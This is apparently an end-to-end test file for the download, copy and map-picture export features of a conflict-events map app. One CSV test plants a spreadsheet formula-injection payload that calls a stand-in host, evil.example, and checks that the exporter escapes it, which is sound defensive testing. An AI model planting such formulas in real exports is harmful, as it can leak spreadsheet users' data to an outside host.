/** Taking it away: every download holds exactly what is shown, a frame that blocks it shows the text, and the picture. */
import type { BrowserContext, Download, Locator, Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { citedSources } from '../../src/core/citation.ts';
import { acceptsEvent } from '../../src/core/filter.ts';
import type { DatasetFile } from '../../src/core/model.ts';
import { activeEvents } from '../../src/core/window.ts';
import { EXPORT_FORMATS, EXPORTERS, type ExportFormat } from '../../src/export/index.ts';
import { parseDateline } from '../../src/formats/dateline.ts';
import { en } from '../../src/i18n/en.ts';
import { parseTime } from '../../src/params/time.ts';
import { type Known, readKnown } from './known.ts';
import { eventually, withPage, withSharedPage } from './page.ts';
import { listReady, mapReady, parts, rowTexts } from './reader.ts';

const { header, reading, takeaway } = en;
const TIME = '2024-11..2025-01';
const CATEGORIES = ['combat', 'casualties'];
const PART = `?time=${TIME}&filter=category:${CATEGORIES.join('~')}`;

type Frameish = Pick<Page, 'getByRole' | 'getByText' | 'locator'>;

async function openDialog(page: Frameish): Promise<Locator> {
  await page.getByRole('button', { name: takeaway.open, exact: true }).click();
  const dialog = page.getByRole('dialog', { name: takeaway.title });
  await dialog.getByRole('radio').first().waitFor();
  return dialog;
}

async function download(page: Page, button: Locator): Promise<{ readonly name: string; readonly bytes: Buffer }> {
  const [saved] = await Promise.all([page.waitForEvent('download'), button.click()]);
  return { name: saved.suggestedFilename(), bytes: await bytesOf(saved) };
}

async function bytesOf(saved: Download): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of await saved.createReadStream()) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

const buttonOf = (dialog: Locator, format: ExportFormat): Locator =>
  dialog.getByRole('button', { name: takeaway.downloadAs(EXPORTERS[format].name), exact: true });

/** Indexes of the events that the address of `PART` asks for. */
function shownIn({ dataset }: Known): number[] {
  const window = parseTime(TIME);
  if (!window.ok) throw new Error(window.problem.message);
  const accepts = acceptsEvent(dataset, { category: new Set(CATEGORIES) });
  return [...activeEvents(dataset.columns, window.value, accepts)];
}

/** Distinct ids of the events, or of the articles, that a file names, sorted. */
const READERS: Record<ExportFormat, (text: string) => string[]> = {
  geojson: (text) => readDataset(text).events.map(({ id }) => id),
  csv: (text) =>
    text
      .split('\r\n')
      .slice(1, -1)
      .map((row) => row.split(',')[0] ?? ''),
  kml: (text) => [...text.matchAll(/<Data name="event_id"><value>([^<]*)</g)].map((match) => match[1] ?? ''),
  'csl-json': (text) => (JSON.parse(text) as { id: string }[]).map(({ id }) => id),
  ris: (text) => [...text.matchAll(/^ID {2}- (.*?)\r?$/gm)].map((match) => match[1] ?? ''),
  bibtex: (text) => [...text.matchAll(/^@\w+\{([^,]+),$/gm)].map((match) => match[1] ?? ''),
};

function readDataset(text: string): DatasetFile {
  const parsed = parseDateline(text);
  if (!parsed.ok) throw new Error(parsed.problem.message);
  expect(parsed.value.problems).toEqual([]);
  return parsed.value.file;
}

const distinct = (ids: readonly string[]) => [...new Set(ids)].sort();

describe('a download', () => {
  test('in every format holds exactly the events that a window and a filter show', async () => {
    const known = await readKnown();
    const shown = shownIn(known);
    const events = shown.map((index) => known.dataset.events.at(index));
    expect(shown.length).toBeGreaterThan(3);
    expect(shown.length).toBeLessThan(known.total / 2);
    await withSharedPage({ at: PART }, async ({ page }) => {
      await listReady(page);
      // What is folded away is shown, too.
      await page.evaluate(() => {
        for (const fold of document.querySelectorAll<HTMLDetailsElement>('#reading details')) fold.open = true;
      });
      await eventually(() => rowTexts(page).then(({ length }) => length)).toBeGreaterThanOrEqual(shown.length);
      const rows = await rowTexts(page);
      for (const event of events) expect(rows.some((row) => row.includes(event?.title ?? '?'))).toBe(true);
      const dialog = await openDialog(page);
      await dialog.getByText(takeaway.shown(shown.length)).waitFor();
      const expected = {
        events: distinct(events.map((event) => event?.id ?? '')),
        citations: distinct(citedSources(known.dataset, shown).map(({ source }) => source.id)),
      };
      for (const format of EXPORT_FORMATS) {
        const { name, bytes } = await download(page, buttonOf(dialog, format));
        expect(name).toBe(`${known.dataset.info.id}-2024-11_to_2025-01-filtered.${EXPORTERS[format].extension}`);
        expect([format, distinct(READERS[format](bytes.toString('utf8')))]).toEqual([
          format,
          expected[EXPORTERS[format].holds],
        ]);
        await dialog.getByText(takeaway.saved(name)).waitFor();
      }
    });
  });

  test('of everything, read back, is the file that was served', async () => {
    const known = await readKnown();
    await withSharedPage({ at: PART }, async ({ page }) => {
      await listReady(page);
      const dialog = await openDialog(page);
      await dialog.getByText(takeaway.everything(known.dataset.events.length)).click();
      const { name, bytes } = await download(page, buttonOf(dialog, 'geojson'));
      expect(name).toBe(`${known.dataset.info.id}.geojson`);
      const { events, places, claims, sources, topics, dataset } = readDataset(bytes.toString('utf8'));
      const byId = <T extends { readonly id: string }>(items: readonly T[]) =>
        [...items].sort((a, b) => (a.id < b.id ? -1 : 1));
      expect(dataset).toEqual(known.dataset.info);
      expect(byId(events)).toEqual(byId([...known.dataset.events]));
      expect(byId(places)).toEqual(byId(known.dataset.places));
      expect(byId(claims)).toEqual(byId(known.dataset.claims));
      expect(byId(sources)).toEqual(byId(known.dataset.sources));
      expect(byId(topics)).toEqual(byId(known.dataset.topics));
    });
  });

  test('as CSV gives a spreadsheet nothing to execute', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"read on")';
    const poison = (context: BrowserContext) =>
      context.route('**/data/*.geojson', async (route) => {
        const file = (await (await route.fetch()).json()) as { events: { title: string }[] };
        for (const event of file.events.slice(0, 3)) event.title = formula;
        await route.fulfill({ contentType: 'application/geo+json', body: JSON.stringify(file) });
      });
    await withPage({ before: poison }, async ({ page }) => {
      await listReady(page);
      const dialog = await openDialog(page);
      const { bytes } = await download(page, buttonOf(dialog, 'csv'));
      const text = bytes.toString('utf8');
      expect(text.startsWith('\ufeff')).toBe(true);
      expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""read on"")"`);
      expect(text).not.toMatch(/(^|,)"?[=+@|]/m);
    });
  });

  test('that a sandboxed frame blocks shows its text to copy', async () => {
    const known = await readKnown();
    await withPage({ at: 'host.html', before: inFrame }, async ({ page }) => {
      const frame = page.frameLocator('iframe');
      const dialog = await openDialog(frame);
      let saved = false;
      page.on('download', () => {
        saved = true;
      });
      await buttonOf(dialog, 'ris').click();
      const text = dialog.getByLabel(takeaway.blocked);
      await text.waitFor();
      await page.waitForTimeout(500);
      expect(saved, 'the sandbox blocks the download itself').toBe(false);
      expect(distinct(READERS.ris(await text.inputValue()))).toEqual(
        distinct(
          known.dataset.sources
            .filter(({ id }) => known.dataset.claims.some(({ source }) => source === id))
            .map(({ id }) => id),
        ),
      );
    });
  });

  test('is not offered where nothing is shown', async () => {
    const { emptyYear } = await readKnown();
    await withSharedPage({ at: `?time=${emptyYear}` }, async ({ page }) => {
      await listReady(page);
      const dialog = await openDialog(page);
      await dialog.getByText(takeaway.nothingShown).waitFor();
      expect(await buttonOf(dialog, 'csv').isDisabled()).toBe(true);
      await dialog.getByRole('radio').nth(1).check();
      expect(await buttonOf(dialog, 'csv').isDisabled()).toBe(false);
    });
  });
});

/** Our page in a sandbox that allows no downloads. Only our own headers forbid the frame, and only here. */
async function inFrame(context: BrowserContext): Promise<void> {
  await context.route('**/host.html*', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: '<!doctype html><title>Host</title><link rel="icon" href="data:,"><iframe title="Map" width="1200" height="700" sandbox="allow-scripts allow-same-origin" src="./?debug=1"></iframe>',
    }),
  );
  await context.route(/\/\?debug=1$/, async (route) => {
    const response = await route.fetch();
    const { 'content-security-policy': _, 'x-frame-options': __, ...headers } = response.headers();
    await route.fulfill({ response, headers });
  });
}

describe('a copy', () => {
  test('of an event names its articles, of a claim its paragraph, with the day of access', async () => {
    const { contested, dataset } = await readKnown();
    const [claim] = dataset.claimsByEvent.get(contested.id) ?? [];
    const grant = (context: BrowserContext) => context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await withPage({ at: `?event=${contested.id}`, before: grant }, async ({ page }) => {
      await listReady(page);
      const { list } = parts(page);
      const copied = () => page.evaluate(() => navigator.clipboard.readText());
      await list.getByRole('button', { name: reading.copy, exact: true }).click();
      await eventually(copied).toContain(contested.title);
      expect(await copied()).toMatch(/Reported in: .*¶/);
      expect(await copied()).toMatch(/Accessed \d{1,2} \w+ \d{4}\./);
      await list.getByRole('button', { name: takeaway.copyClaim }).first().click();
      await eventually(copied).toContain(claim?.says.replace(/[.\s]+$/, '') ?? '?');
      expect(await copied()).toMatch(new RegExp(`¶ ${claim?.paragraph}\\.`));
    });
  });
});

describe('the picture', () => {
  test('is the map at twice its size under its title, with legend, credits and link', async () => {
    const known = await readKnown();
    const category = known.dataset.categories.find(({ id }) => id === 'combat');
    await withPage({ at: PART }, async ({ page, context }) => {
      await mapReady(page);
      const canvas = await parts(page).canvas.evaluate((element: HTMLCanvasElement) => ({
        width: element.clientWidth,
        height: element.clientHeight,
        drawn: element.width,
      }));
      const dialog = await openDialog(page);
      const { name, bytes } = await download(page, dialog.getByRole('button', { name: takeaway.savePicture }));
      expect(name).toBe(`${known.dataset.info.id}-2024-11_to_2025-01-filtered.png`);
      expect(bytes.subarray(1, 4).toString('latin1')).toBe('PNG');
      expect(bytes.readUInt32BE(16)).toBe(canvas.width * 2);
      const height = bytes.readUInt32BE(20) / 2;
      expect(height).toBeGreaterThan(canvas.height + 120);
      expect(height).toBeLessThan(canvas.height + 320);
      await dialog.getByRole('img', { name: takeaway.pictureAlt(known.dataset.info.title) }).waitFor();
      // The map on the page goes back to its own sharpness.
      await eventually(() => parts(page).canvas.evaluate((element: HTMLCanvasElement) => element.width)).toBe(
        canvas.drawn,
      );

      const bands = await readBands(await context.newPage(), bytes);
      // Title and dates over the map, legend and credits under it: ink on a quiet ground. The map: many colours.
      expect(bands.top.ink).toBeGreaterThan(0.005);
      expect(bands.top.ink).toBeLessThan(0.2);
      expect(bands.bottom.ink).toBeGreaterThan(0.01);
      expect(bands.bottom.ink).toBeLessThan(0.3);
      expect(bands.middle.colours).toBeGreaterThan(200);
      expect(category).toBeDefined();
      expect(bands.bottom.reds).toBeGreaterThan(20);
      expect(bands.middle.reds).toBeGreaterThan(20);
    });
  });

  test('is not offered where there is no map', async () => {
    const { withoutWebGl } = await import('../stories.ts');
    await withPage({ before: withoutWebGl }, async ({ page }) => {
      await page.getByText(en.overview.unavailable).first().waitFor();
      const dialog = await openDialog(page);
      await dialog.getByText(takeaway.pictureUnavailable).waitFor();
      expect(await dialog.getByRole('button', { name: takeaway.savePicture }).isDisabled()).toBe(true);
      await dialog.getByRole('button', { name: header.close }).click();
      await dialog.waitFor({ state: 'hidden' });
    });
  });
});

interface Band {
  /** Share of pixels that differ clearly from the band's first. */
  readonly ink: number;
  readonly colours: number;
  /** Pixels in the red of combat. */
  readonly reds: number;
}

/** Decodes a PNG in an empty page and looks at its head (50 px of the page), the middle and its foot. */
async function readBands(page: Page, png: Buffer): Promise<Record<'top' | 'middle' | 'bottom', Band>> {
  const found = await page.evaluate(async (base64) => {
    const image = new Image();
    image.src = `data:image/png;base64,${base64}`;
    await image.decode();
    const canvas = document.createElement('canvas');
    canvas.width = image.width;
    canvas.height = image.height;
    const context = canvas.getContext('2d');
    if (!context) throw new Error('No canvas.');
    context.drawImage(image, 0, 0);
    const look = (y: number, height: number) => {
      const { data } = context.getImageData(0, y, canvas.width, height);
      const ground = [data[0] ?? 0, data[1] ?? 0, data[2] ?? 0];
      const colours = new Set<number>();
      let ink = 0;
      let reds = 0;
      for (let k = 0; k < data.length; k += 4) {
        const [r, g, b] = [data[k] ?? 0, data[k + 1] ?? 0, data[k + 2] ?? 0];
        colours.add((r << 16) | (g << 8) | b);
        const away = Math.abs(r - (ground[0] ?? 0)) + Math.abs(g - (ground[1] ?? 0)) + Math.abs(b - (ground[2] ?? 0));
        if (away > 150) ink++;
        if (Math.abs(r - 0xb9) < 6 && Math.abs(g - 0x2a) < 6 && Math.abs(b - 0x36) < 6) reds++;
      }
      return { ink: ink / (data.length / 4), colours: colours.size, reds };
    };
    const middle = Math.round(canvas.height * 0.2);
    return {
      top: look(0, 120),
      middle: look(middle, Math.round(canvas.height * 0.45)),
      bottom: look(canvas.height - 230, 230),
    };
  }, png.toString('base64'));
  await page.close();
  return found;
}
